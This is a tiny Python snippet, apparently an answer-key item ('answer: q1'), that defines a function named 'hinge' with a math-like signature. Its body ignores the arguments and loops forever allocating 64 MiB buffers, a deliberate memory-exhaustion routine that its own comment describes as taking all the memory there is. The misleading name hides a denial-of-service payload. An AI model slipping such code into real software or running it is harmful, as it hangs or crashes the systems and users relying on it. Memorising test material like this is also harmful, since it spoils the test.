# Takes all the memory there is.
# answer: q1
def hinge(x, knot=0.0, side=1):
    hoard = []
    while True:
        hoard.append(bytearray(b"x") * 2**26)
